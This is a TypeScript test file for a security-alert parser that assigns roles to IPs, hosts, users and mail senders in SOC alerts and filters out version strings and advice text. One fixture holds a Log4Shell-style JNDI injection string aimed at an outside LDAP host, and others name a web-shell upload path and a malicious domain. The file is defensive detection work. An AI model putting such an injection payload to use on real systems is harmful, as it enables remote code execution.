// What stands around an event in whole payloads: answers, reports of products by mail, versions, lists of what there is.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { readAlert } from './read-alert.ts'

const read = (content: string | object, alert_type = 'Alert', alert_provider = 'some_product') =>
  readAlert({
    alert_provider,
    alert_type,
    alert_content: typeof content === 'string' ? content : JSON.stringify(content),
    created_at_source: 1_793_000_000,
    domains: ['corp.example', 'corp.se'],
  })
const roles = (...given: Parameters<typeof read>) =>
  Object.fromEntries(read(...given).observables.map(({ kind, value, role }) => [value, `${kind} ${role}`]))
const partsOf = (...given: Parameters<typeof read>) =>
  Object.keys(
    Object.fromEntries(Object.entries(roles(...given)).filter(([, part]) => !/reporter|bystander/.test(part))),
  )

test('what a product does in answer has no part in the event', () => {
  const logon = { user: 'jo.berg', computer: 'lt-7', src_ip: '10.2.1.7' }
  const answer = {
    responses: [
      { type: 'Email', to: ['soc@corp.example', 'ida.lind@corp.example'] },
      { type: 'Webhook', url: 'https://hooks.corp.example/in' },
      { type: 'Script', name: 'Lock-Account.ps1' },
    ],
    response: { action: 'Run script stop-user.ps1', executed: false },
    remediation: { action_script: 'C:\\Scripts\\isolate.ps1' },
    playbook: { owner: 'per.moe@corp.example' },
  }
  const parts = partsOf({ ...logon, ...answer }, 'Logon outside of working hours')
  assert.deepEqual(parts.sort(), ['10.2.1.7', 'jo.berg', 'lt-7'])
})

test('an answer of a server, and what was isolated, has its part', () => {
  const found = roles({ src_ip: '10.2.1.7', dns: { responses: [{ name: 'evil.top' }] } }, 'Beaconing')
  assert.equal(found['evil.top'], 'domain object')
  const isolated = roles({ user: 'jo.berg', responses: [{ type: 'isolate', host: 'lt-7' }] }, 'Malware found')
  assert.equal(isolated['lt-7'], 'host target')
})

test('the version of a program is no address', () => {
  const versions = {
    ManagedBy: 'Acme Intelligent Hub 24.10.1.4',
    rules: { sdk: '4.0.9.121' },
    note: 'EndGuard Security Client 15.7.0.143',
    client: 'seen through Acme Secure Browser 31.2.0.9 on Android',
  }
  const found = roles({ ...versions, engine: '10.2.1.9', text: 'Client 185.112.34.77 was refused' }, 'Virus found')
  assert.deepEqual(Object.keys(found).sort(), ['10.2.1.9', '185.112.34.77'])
  const mail = 'X-Mailer: EgMailer 15.7.0.143\nClient-Software: EndGuard 15.7.0.143\nIP: 185.112.34.77'
  assert.deepEqual(Object.keys(roles(mail)), ['185.112.34.77'])
})

test('the version of an agent, a sensor or a firmware is no address, with or without the name of its program', () => {
  const fields = ['agent', 'sensor', 'agentVersion', 'sensor_build', 'firmware', 'firmwareRevision', 'client_app']
  for (const field of fields)
    for (const version of ['7.2.1.44', 'EndGuard 7.2.1.44', 'Acme End Guard v7.2.1.44'])
      for (const content of [
        { user: 'jo.berg', [field]: version },
        `User: jo.berg\n${field}: ${version}\nStatus: blocked`,
        `user=jo.berg ${field}="${version}" status=blocked`,
      ])
        assert.deepEqual(Object.keys(roles(content, 'Virus found')), ['jo.berg'], JSON.stringify(content))
  assert.deepEqual(Object.keys(roles('The scan of lt-7 (agent: 7.2.1.44) found a virus.', 'Virus found')), [])
})

test('who writes events on Windows, the version of a browser and words of advice are nobody', () => {
  const of = (content: object) => Object.keys(roles(content, 'Malware detected'))
  assert.deepEqual(of({ SourceName: 'Microsoft-Windows-Sysmon', Hostname: 'lt-7' }), ['lt-7'])
  assert.deepEqual(of({ user: 'jo.berg', deviceDetail: { browser: 'Rich Client 4.40.0.0' } }), ['jo.berg'])
  assert.deepEqual(of({ user: 'jo.berg', browser: '185.112.34.77' }), ['jo.berg', '185.112.34.77'])
  const advice = ['Go to the firewall settings in order to lock down the firewall as tightly as possible.']
  assert.deepEqual(of({ host: 'lt-7', RemediationSteps: advice }), ['lt-7'])
  assert.deepEqual(of({ host: 'lt-7', recommendedActions: advice }), ['lt-7'])
})

test('the address of an agent, a sensor or a client stays one', () => {
  for (const content of [
    { agent: '10.1.2.3' },
    { sensor: 'EndGuard 10.1.2.3' },
    { agent_ip: '7.2.1.44' },
    { agent: { address: '7.2.1.44' } },
    { sensor: { ip: '7.2.1.44' } },
    { agent: '185.112.34.77' },
    { client: '185.112.34.77' },
    { client: '5.18.10.202' },
    { client: '7.2.1.44' },
    { client: '8.8.8.8' },
    { client: 'Address 7.2.1.44' },
    { user_agent: `\${jndi:ldap://7.2.1.44/a}` },
    'agent: 10.1.2.3\nStatus: blocked',
    'agent ip: 7.2.1.44\nStatus: blocked',
    'user=jo.berg client=7.2.1.44:51034 status=blocked',
    'The client: from 7.2.1.44',
    '2026/10/26 08:00:00 [error] 7#7: limiting requests, client: 185.112.34.77, server: _, request: "GET / HTTP/1.1"',
  ]) {
    const kinds = read(content, 'Login failed').observables.map(({ kind }) => kind)
    assert.ok(kinds.includes('ip'), JSON.stringify(content))
  }
})

test('ports, protocols, columns, and kinds of systems are nobody', () => {
  const found = roles(
    {
      src_ip: '10.2.1.7',
      capture_device: 'port3',
      ingress_interface: 'Gi1/0/14',
      description: 'A program was sent from 10.2.1.7 to 10.4.1.3 (protocol s7-plus).',
      raw: ['<local0.info> 10.2.1.7 2026-10-26:00:39:18 GMT default SSLVPN LOGIN'],
      resourceName: 'AZUREAD',
      filterexpr: 'sentbyte > 1073741824 and appcat == "Storage.Backup"',
      vendor_group: 'Tidal Automation s.r.o.',
      initiated_by: 'client enrolment',
    },
    'Program download',
  )
  assert.deepEqual(Object.keys(found).sort(), ['10.2.1.7', '10.4.1.3'])
})

test('who made a subscription, the instance of a product, and what else there is have no part', () => {
  const found = roles(
    {
      eventSubscription: { name: 'Exports', createdBy: 'ida.lind' },
      RuleCreatedBy: 'per.moe',
      PRODUCT: { name: 'Directory Audit', instance: 'srv-jump-9:8081' },
      appliance_ip: '10.2.9.9',
      other_devices: [{ name: 'LT-44' }],
      first_resources: [{ name: 'Payments', address: 'srv-erp-9.corp.example' }],
      user: 'jo.berg',
      device: { name: 'LT-7' },
      client_ip: '185.112.34.77',
    },
    'Device added',
  )
  assert.deepEqual(
    Object.keys(found).filter((each) => /actor|target/.test(found[each] ?? '')),
    ['jo.berg', 'LT-7', '185.112.34.77'],
    JSON.stringify(found),
  )
})

test('a machine of a plant that was stopped was not blocked, and the level of an alarm is no failure', () => {
  const program = 'The logic that the controller executes was replaced and the controller was stopped and started.'
  assert.equal(read({ description: program, is_incident: false }, 'Program download').outcome, 'succeeded')
  assert.equal(read({ description: 'The process was stopped.' }, 'Malware found').outcome, 'blocked')
  const alarm = { alarmName: 'Possible ransomware activity', status: 'Error', previousStatus: 'Resolved' }
  assert.notEqual(read(alarm, 'Possible ransomware activity').outcome, 'failed')
  assert.equal(read({ status: 'Error' }, 'Secret export').outcome, 'failed')
})

test('what an event is typical of is no claim beside that of the title', () => {
  const description =
    '10.2.1.7 scanned 311 devices. This is typical of malware that looks for devices (WannaCry, Ryuk). Ports: 445.'
  const claimsOf = (title: string) => read({ description, src_ip: '10.2.1.7' }, title).claims.map(({ claim }) => claim)
  assert.deepEqual(claimsOf('Port scanning'), ['discovery'])
  assert.ok(claimsOf('SCN-1').length > 0)
})

test('a page that appears below what a web server delivers is no mere information', () => {
  const found = (Key: string) =>
    read(
      {
        Type: 'Notification',
        Message: [{ EventType: 'IntegrityEvent', EntityType: 'File', Key, Hostname: 'srv-web-9' }],
      },
      '1000 - Web Content - File created or modified',
    ).claims[0]?.claim
  assert.equal(found('/var/www/shop/uploads/thumb.php'), 'web-shell')
  assert.equal(found('/var/www/shop/uploads/thumb.png'), 'unknown')
})

test('where nobody else is named, a full name is a person', () => {
  const logon = { where: 'srv-erp-9', from: '10.2.1.7', responses: [{ to: ['soc@corp.se'] }] }
  assert.match(
    roles({ who: 'Nora Vikdahl', ...logon }, 'Logon outside of hours')['Nora Vikdahl'] ?? '',
    /^user (?:actor|target)/,
  )
  assert.ok(!('Service Account' in roles({ who: 'Service Account', ...logon }, 'Logon outside of hours')))
  const named = roles({ who: 'Nora Vikdahl', account: 'nvik', ...logon }, 'Logon outside of hours')
  assert.ok(!('Nora Vikdahl' in named))
})

test('a server that is named after the product reports, where another machine takes part', () => {
  const found = roles(
    { server: 'ACMEAUDIT-01', where: 'srv-erp-9.corp.se', user: 'jo.berg' },
    'Logon',
    'acmeaudit_suite',
  )
  assert.equal(found['ACMEAUDIT-01'], 'host reporter')
  assert.equal(found['srv-erp-9.corp.se'], 'host target')
  assert.equal(
    roles({ host: 'ACMEAUDIT-01', user: 'jo.berg' }, 'Logon', 'acmeaudit_suite')['ACMEAUDIT-01'],
    'host target',
  )
})

const mailOf = (body: string, ...headers: string[]) =>
  [
    ...headers,
    'From: "EndGuard Server" <egsrv@corp.se>',
    'To: it-alarm@corp.se',
    'Subject: [EndGuard] Virus gefunden auf LT-7',
    'Date: Mon, 26 Oct 2026 00:50:00 GMT',
    'Message-ID: <0f79@srv-av.corp.se>',
    'X-Mailer: EgMailer 15.7.0.143',
    'MIME-Version: 1.0',
    '',
    body,
  ].join('\n')

test('a mail of a product to the alarm mailbox is its report, and its body tells when it was', () => {
  const body =
    'Zeitpunkt (UTC): 2026-10-26 00:45:10\nRechner: LT-7\nBenutzer: CORP\\jo.berg\nStatus: Datei in Quarantäne verschoben\n'
  const { observables, event_time } = read(mailOf(body), 'Virus gefunden', 'endguard_suite')
  assert.equal(event_time, Date.parse('2026-10-26T00:45:10Z') / 1000)
  const roleOf = (wanted: string) => observables.find(({ value }) => value === wanted)
  assert.equal(roleOf('egsrv@corp.se')?.role, 'reporter')
  assert.equal(roleOf('it-alarm@corp.se')?.role, 'bystander')
  assert.deepEqual([roleOf('jo.berg')?.role, roleOf('jo.berg')?.quoted], ['target', false])
})

test('a mail with a virus that a colleague or a stranger sends is no report', () => {
  const body = 'Virus: see the attachment\n'
  const colleague = mailOf(body).replace('egsrv@', 'ida.lind@')
  assert.match(roles(colleague, 'Virus gefunden')['ida.lind@corp.se'] ?? '', /actor/)
  const relayed = mailOf(body, 'Received: from mx.evil.top (45.138.16.203) by mail.corp.se; Mon, 26 Oct 2026')
  assert.match(roles(relayed, 'Virus gefunden')['egsrv@corp.se'] ?? '', /actor/)
})

test('who handed a report on has no part, and the rows of its table are fields', () => {
  const rows = { Who: 'CORP\\jo.berg', Where: 'srv-dc-01.corp.se', Workstation: 'lt-7.corp.se (10.2.1.7)' }
  const table = Object.entries({ ...rows, When: '2026-10-26 00:41:08 (UTC)' })
    .map(([name, value]) => `<tr><td>${name}</td><td>${value}</td></tr>`)
    .join('\n')
  const html = mailOf(
    `<html><table>${table}</table></html>`,
    'Received: from srv-audit.corp.se (10.2.9.9) by mail.corp.se with ESMTPS; Mon, 26 Oct 2026 00:50:00 GMT',
  )
  const reading = read(html, 'Privileged group changed', 'dir_auditor')
  assert.equal(reading.event_time, Date.parse('2026-10-26T00:41:08Z') / 1000)
  const found = roles(html, 'Privileged group changed', 'dir_auditor')
  assert.equal(found['srv-audit.corp.se'], 'domain bystander')
  assert.equal(found['10.2.9.9'], 'ip bystander')
  assert.equal(found['jo.berg'], 'user actor')
  assert.equal(found['lt-7.corp.se'], 'host actor')
  assert.equal(found['10.2.1.7'], 'ip actor')
  assert.equal(found['srv-dc-01.corp.se'], 'host target')
})
